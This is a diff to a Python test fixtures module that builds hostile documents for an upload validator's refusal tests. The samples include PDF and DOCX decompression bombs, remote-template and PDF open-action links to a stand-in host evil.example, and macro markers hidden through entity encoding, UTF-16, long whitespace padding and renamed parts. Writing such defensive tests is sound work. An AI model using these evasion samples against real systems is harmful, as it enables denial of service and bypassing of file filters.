@@ -1,5 +1,6 @@
 """Files as people send them, and as attackers do."""
 
+import base64
 import io
 import struct
 import zipfile
@@ -47,13 +48,16 @@ def archive(parts: Mapping[str, bytes | str], compression: int = zipfile.ZIP_DEF
     return written.getvalue()
 
 
+_TYPES: Final = (
+    '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+    'wordprocessingml.document.main+xml"/></Types>'
+)
+_MACRO_TYPE: Final = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+
+
 def docx(**parts: bytes | str) -> bytes:
     """A document of a word processor, with more parts."""
-    types = (
-        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
-        'wordprocessingml.document.main+xml"/></Types>'
-    )
-    own = {"[Content_Types].xml": types, "_rels/.rels": "<Relationships/>", "word/document.xml": "<w:document/>"}
+    own = {"[Content_Types].xml": _TYPES, "_rels/.rels": "<Relationships/>", "word/document.xml": "<w:document/>"}
     return archive(own | parts)
 
 
@@ -117,6 +121,27 @@ def bomb_pdf() -> bytes:
     return pdf(flate_bomb, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
 
 
+_AS_IT_IS: Final[dict[str, Any]] = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}
+
+
+def _text_bomb(made: Any) -> None:
+    packed = base64.a85encode(zlib.compress(bytes(200_000_000), 9)) + b"~>"
+    names = pikepdf.Array([pikepdf.Name.ASCII85Decode, pikepdf.Name.FlateDecode])
+    made.pages[0].Contents = made.make_indirect(pikepdf.Stream(made, packed, Filter=names))
+
+
+def _hexadecimal(made: Any) -> None:
+    packed = zlib.compress(b"q Q", 9).hex().encode() + b">"
+    names = pikepdf.Array([pikepdf.Name.ASCIIHexDecode, pikepdf.Name.FlateDecode])
+    made.pages[0].Contents = made.make_indirect(pikepdf.Stream(made, packed, Filter=names))
+
+
+def _going_on(made: Any) -> None:
+    onward = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://evil.example/")
+    place = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])
+    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=place, Next=onward)
+
+
 def zip_bomb() -> bytes:
     """A document of 100 kB that unpacks to 100 MB."""
     return docx(**{"word/big.xml": b"\0" * 100_000_000})
@@ -125,6 +150,11 @@ def zip_bomb() -> bytes:
 _TEMPLATE: Final = (
     '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
     'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
+)
+_RELATIONSHIPS: Final = "word/_rels/settings.xml.rels"
+_MACRO_TYPES: Final = (
+    "<Types><!-- wordprocessingml.document.main+xml --><Override "
+    'PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
 )
 _LINK: Final = _TEMPLATE.replace("attachedTemplate", "hyperlink")
 
@@ -156,8 +186,46 @@ REFUSED: Final[Mapping[str, tuple[Callable[[], bytes], str]]] = {
     "a picture without a size": (lambda: png(0, 8), "unreadable"),
     "a JPEG cut off": (lambda: jpeg()[:22], "unreadable"),
     "a document with macros": (lambda: docx(**{"word/vbaProject.bin": b"x"}), "macros"),
+    "a document with macros by its types, written otherwise": (
+        lambda: docx(**{"[Content_Types].xml": _MACRO_TYPES.replace("macroEnabled", "&#109;acroEnabled")}),
+        "macros",
+    ),
+    "a document with macros in a part of another name": (
+        lambda: docx(**{"word/_rels/document.xml.rels": _TEMPLATE.replace("attachedTemplate", "vbaProject")}),
+        "macros",
+    ),
     "a document with an object in it": (lambda: docx(**{"word/embeddings/oleObject1.bin": b"x"}), "embedded_files"),
     "a document that fetches its template": (lambda: docx(**{"word/_rels/settings.xml.rels": _TEMPLATE}), "external_content"),
+    "a PDF that opens a page of the web": (lambda: pdf(_going_on), "action"),
+    "a PDF that unpacks to 200 MB, packed as text": (lambda: pdf(_text_bomb, **_AS_IT_IS), "bomb"),
+    "a document that fetches its template, in single quotes": (
+        lambda: docx(**{_RELATIONSHIPS: _TEMPLATE.replace('"', "'")}),
+        "external_content",
+    ),
+    "a document that fetches its template, in UTF-16": (
+        lambda: docx(**{_RELATIONSHIPS: _TEMPLATE.encode("utf-16")}),
+        "external_content",
+    ),
+    "a document that fetches its template, far behind": (
+        lambda: docx(**{_RELATIONSHIPS: _TEMPLATE.replace("><", ">" + " " * 300_000 + "<", 1)}),
+        "external_content",
+    ),
+    "a document with macros by another name": (
+        lambda: docx(**{"[Content_Types].xml": _TYPES.replace("</Types>", _MACRO_TYPE + "</Types>"), "word/x.bin": b"x"}),
+        "macros",
+    ),
+    "a document that fetches its template, written otherwise": (
+        lambda: docx(**{"word/_rels/settings.xml.rels": _TEMPLATE.replace('"External"', "'&#69;xternal'")}),
+        "external_content",
+    ),
+    "a document with relations that are no XML": (
+        lambda: docx(**{"word/_rels/settings.xml.rels": "<Relationships>"}),
+        "unreadable",
+    ),
+    "a document with relations that declare entities": (
+        lambda: docx(**{"word/_rels/settings.xml.rels": f'<!DOCTYPE a [<!ENTITY b "External">]>{_TEMPLATE}'}),
+        "unreadable",
+    ),
     "a damaged document": (
         lambda: archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}, zipfile.ZIP_STORED).replace(
             b"<a/>", b"<b/>"
@@ -170,6 +238,7 @@ TAKEN: Final[Mapping[str, tuple[Callable[[], bytes], str]]] = {
     "a PDF": (pdf, "application/pdf"),
     "a PDF that opens at a place": (lambda: pdf(_opening_place), "application/pdf"),
     "a PDF with objects in streams": (lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate), "application/pdf"),
+    "a PDF with a page in hexadecimal digits": (lambda: pdf(_hexadecimal, **_AS_IT_IS), "application/pdf"),
     "a JPEG": (jpeg, "image/jpeg"),
     "a PNG": (png, "image/png"),
     "a document": (docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
